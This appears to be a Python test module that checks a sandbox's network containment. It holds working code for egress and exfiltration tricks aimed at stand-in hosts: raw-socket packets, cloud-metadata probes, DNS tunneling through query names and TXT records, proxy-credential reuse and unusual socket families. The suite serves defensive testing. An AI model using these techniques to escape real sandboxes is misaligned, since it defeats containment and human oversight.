# Attacks that want a packet to leave. Every address here belongs to a network namespace that the suite made. An answer proves nothing by
# itself (in the sandbox every address leads to kz): reached is what the world's servers saw, or what they alone answer.
import base64
import os
import socket
import struct
import subprocess
import urllib.parse

from attack import UNRULED, Blocked, Impossible, attack

TARGETS = {
    "the host's loopback": "127.0.0.1",
    "an address of the machine": "192.0.2.5",
    "another network namespace's host": "10.9.9.2",
    "an address of the internet": "203.0.113.10",
    "a second address of the internet": "198.51.100.7",
    "the metadata address": "169.254.169.254",
    "a private network": "10.1.2.3",
}
TARGETS6 = {"the host's IPv6 loopback": "::1", "an IPv6 address of the internet": "2001:db8::10", "an IPv4 address as IPv6": "::ffff:203.0.113.10"}
# As a server on the internet has them: addresses of the machine's own interface that are nobody's private ones.
OWN_PUBLIC = ("93.184.215.14", "2606:2800:21f:cb07::1")
PORTS = (80, 443, 8080)
ANSWER = b"WORLD-REACHED"
PATIENCE_S = 1.0
MSG_FASTOPEN, IPPROTO_MPTCP, IPPROTO_UDPLITE = 0x20000000, 262, 136


def mark(facts, name):
    return f"{facts['mark']}|{name}|".encode()


def wanted(answer):
    if ANSWER not in answer:
        raise Blocked(f"another answer: {answer[:60]!r}")
    return answer[:60].decode("latin1")


def request(facts, name, host):
    """Bytes that an HTTP proxy understands and an echo server repeats."""
    return b"GET /" + mark(facts, name).replace(b" ", b"_") + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX: " + mark(facts, name) + b"\r\n\r\n"


def over_tcp(facts, name, host, port, family=socket.AF_INET, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as client:
        client.settimeout(PATIENCE_S * 2)
        client.connect((host, port))
        client.sendall(request(facts, name, host))
        return wanted(client.recv(4096))


def over_udp(facts, name, host, port, family=socket.AF_INET, protocol=0):
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as client:
        client.settimeout(PATIENCE_S)
        client.sendto(mark(facts, name), (host, port))
        return wanted(client.recv(4096))


def register_targets():
    for family, targets in ((socket.AF_INET, TARGETS), (socket.AF_INET6, TARGETS6)):
        for title, host in targets.items():
            for port in PORTS:
                name = f"TCP to {title}, port {port}"
                attack(name)(lambda facts, n=name, h=host, p=port, f=family: over_tcp(facts, n, h, p, f))
            name = f"UDP to {title}"
            attack(name)(lambda facts, n=name, h=host, f=family: over_udp(facts, n, h, 8080, f))
            if host.startswith("::ffff:"):
                continue
            name = f"ping of {title}"
            attack(name)(lambda facts, n=name, h=host, f=family: ping(facts, n, h, f))


def ping(facts, name, host, family, kind=socket.SOCK_DGRAM):
    """Only the world's own record counts: the sandbox's kernel answers for every address. See world.py."""
    six = family == socket.AF_INET6
    protocol = socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP
    body = mark(facts, name)
    with socket.socket(family, kind, protocol) as client:
        client.settimeout(PATIENCE_S)
        header = struct.pack("!BBHHH", 128 if six else 8, 0, 0, 4711, 1)
        # The kernel fills in the sum, except on a raw IPv4 socket.
        checked = header if six or kind == socket.SOCK_DGRAM else struct.pack("!BBHHH", 8, 0, inet_sum(header + body), 4711, 1)
        client.sendto(checked + body, (host, 0))
        client.recv(4096)
    raise Blocked("answered, perhaps by the sandbox's own kernel: the world's record decides")


def inet_sum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


register_targets()


def over_proxy(facts, name, host, port):
    """As a program asks that knows kz's proxy: in plain HTTP, and through a tunnel."""
    url = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", ""))
    if not url.port:
        raise Blocked("no proxy")
    login = base64.b64encode(urllib.parse.unquote(f"{url.username}:{url.password}").encode())
    where = f"[{host}]:{port}" if ":" in host else f"{host}:{port}"
    asked = request(facts, name, where)
    plain = asked.replace(b"GET /", b"GET http://" + where.encode() + b"/").replace(b"\r\n\r\n", b"\r\nProxy-Authorization: Basic " + login + b"\r\n\r\n")
    tunnel = f"CONNECT {where} HTTP/1.1\r\nHost: {where}\r\nProxy-Authorization: Basic ".encode() + login + b"\r\n\r\n"
    answers = []
    for steps in ((plain,), (tunnel, asked)):
        with socket.create_connection((url.hostname, url.port), PATIENCE_S * 2) as client:
            client.settimeout(PATIENCE_S * 2)
            for step in steps:
                client.sendall(step)
                answers.append(client.recv(4096))
    return wanted(b" | ".join(answers))


def register_own():
    for family, host in zip((socket.AF_INET, socket.AF_INET6), OWN_PUBLIC):
        for port in PORTS:
            name = f"TCP to a public address of the machine, {'IPv6' if ':' in host else 'IPv4'}, port {port}"

            @attack(name, UNRULED)
            def own(facts, name=name, host=host, port=port, family=family):
                failed = None
                for way in (lambda: over_tcp(facts, name, host, port, family), lambda: over_proxy(facts, name, host, port)):
                    try:
                        return way()
                    except (OSError, Blocked) as error:
                        failed = f"{failed}; {error}" if failed else str(error)
                raise Blocked(failed)


register_own()


@attack("ping by a raw socket")
def raw_ping(facts):
    return ping(facts, "ping by a raw socket", "203.0.113.10", socket.AF_INET, socket.SOCK_RAW)


@attack("an IP packet written by hand, by a raw socket")
def raw_ip(facts):
    body = mark(facts, "an IP packet written by hand, by a raw socket")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as client:
        addresses = socket.inet_aton("192.0.2.5") + socket.inet_aton("203.0.113.10")
        header = struct.pack("!BBHHHBBH", 0x45, 0, 28 + len(body), 1, 0, 64, socket.IPPROTO_UDP, 0) + addresses
        client.sendto(header + struct.pack("!HHHH", 4711, 8080, 8 + len(body), 0) + body, ("203.0.113.10", 0))
    raise Blocked("sent: the world's record decides")


@attack("a packet socket")
def packet(facts):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as client:
        return f"opened, {client.fileno()}"


@attack("TCP with data in its first packet (Fast Open)")
def fast_open(facts):
    name = "TCP with data in its first packet (Fast Open)"
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
        # A socket with a timeout of Python's own would not wait for the connection.
        for option in (socket.SO_RCVTIMEO, socket.SO_SNDTIMEO):
            client.setsockopt(socket.SOL_SOCKET, option, struct.pack("ll", 1, 0))
        client.sendto(request(facts, name, "203.0.113.10"), MSG_FASTOPEN, ("203.0.113.10", 8080))
        return wanted(client.recv(4096))


@attack("Multipath TCP")
def multipath(facts):
    return available(lambda: over_tcp(facts, "Multipath TCP", "203.0.113.10", 8080, protocol=IPPROTO_MPTCP))


@attack("SCTP")
def sctp(facts):
    return available(lambda: over_tcp(facts, "SCTP", "203.0.113.10", 8080, protocol=132))


@attack("UDP-Lite")
def udp_lite(facts):
    return available(lambda: over_udp(facts, "UDP-Lite", "203.0.113.10", 8081, protocol=IPPROTO_UDPLITE))


def available(function):
    try:
        return function()
    except OSError as error:
        if error.errno in (93, 94, 97, 22, 92):
            raise Impossible(f"the kernel has it not: {error}") from error
        raise


@attack("a socket to the hypervisor (AF_VSOCK)")
def vsock(facts):
    def opened():
        with socket.socket(40, socket.SOCK_STREAM) as client:
            return f"opened, {client.fileno()}"

    return available(opened)


@attack("a socket of the kernel's cryptography (AF_ALG)")
def alg(facts):
    def opened():
        with socket.socket(38, socket.SOCK_SEQPACKET) as client:
            return f"opened, {client.fileno()}"

    return available(opened)


@attack("TCP without one variable set")
def unset(facts):
    name = "TCP without one variable set"
    program = "import socket,sys;s=socket.create_connection(('203.0.113.10',8080),2);s.sendall(sys.argv[1].encode());print(s.recv(99))"
    done = subprocess.run([facts["python"], "-I", "-c", program, mark(facts, name).decode()], env={}, capture_output=True, timeout=8)
    return wanted(done.stdout + done.stderr)


@attack("TCP from a static binary")
def static_binary(facts):
    if not facts.get("static"):
        raise Impossible("no C compiler that links statically")
    done = subprocess.run([facts["static"], "203.0.113.10", "8080", mark(facts, "TCP from a static binary").decode()], env={}, capture_output=True, timeout=8)
    return wanted(done.stdout + done.stderr)


@attack("an address of its own on the network")
def own_address(facts):
    """Needs power over the network namespace."""
    done = subprocess.run(["ip", "addr", "add", "192.0.2.77/32", "dev", "lo"], capture_output=True, text=True, env={"PATH": facts["path"]})
    if done.returncode != 0:
        raise Blocked(done.stderr.strip())
    return "it has one"


def question(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 4711, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def spelled(facts, word):
    """A name that tells the world which attack asked. The world's record decides for all of them."""
    return f"{word}.{facts['mark']}.example.net".lower()


@attack("DNS: a query straight to a server, UDP")
def dns_udp(facts):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(PATIENCE_S)
        client.sendto(question(spelled(facts, "dns-udp")), ("198.51.100.53", 53))
        return answered(client.recv(4096))


@attack("DNS: a query straight to a server, TCP")
def dns_tcp(facts):
    with socket.create_connection(("198.51.100.53", 53), PATIENCE_S) as client:
        query = question(spelled(facts, "dns-tcp"))
        client.sendall(struct.pack("!H", len(query)) + query)
        return answered(client.recv(4096)[2:])


@attack("DNS: a query to the host's loopback resolver")
def dns_loopback(facts):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(PATIENCE_S)
        client.sendto(question(spelled(facts, "dns-loopback")), ("127.0.0.53", 53))
        return answered(client.recv(4096))


def answered(data):
    if b"\xc6\x33\x64\x63" not in data:
        raise Blocked(f"another answer: {data[:60]!r}")
    return "the world's server answered"


def lookup(name):
    return ", ".join(sorted({entry[4][0] for entry in socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)}))


@attack("DNS tunnel: a value in a name that no rule allows")
def tunnel(facts):
    return looked_up(spelled(facts, "tunnel"))


@attack("DNS tunnel: a value in front of an allowed name")
def tunnel_below(facts):
    return looked_up(f"below.{facts['mark']}.api.example.com".lower())


@attack("DNS tunnel: a value in a name of an allowed domain")
def tunnel_domain(facts):
    return looked_up(f"domain.{facts['mark']}.wide.example.org".lower())


@attack("DNS tunnel: a value in the type TXT")
def tunnel_text(facts):
    server = next((line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")), "127.0.0.1")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(PATIENCE_S)
        client.sendto(question(spelled(facts, "txt"), 16), (server, 53))
        return answered(client.recv(4096))


def looked_up(name):
    try:
        addresses = lookup(name)
    except socket.gaierror as error:
        raise Blocked(f"no address: {error}") from error
    if "198.51.100.99" not in addresses:
        raise Blocked(f"another address: {addresses}")
    return addresses


@attack("the proxy's credential, used from outside of the sandbox")
def give_away(facts):
    """Hands over what it was given; the world tries it. See world.py."""
    raise Blocked("PROXY " + os.environ.get("HTTPS_PROXY", os.environ.get("https_proxy", "none")))
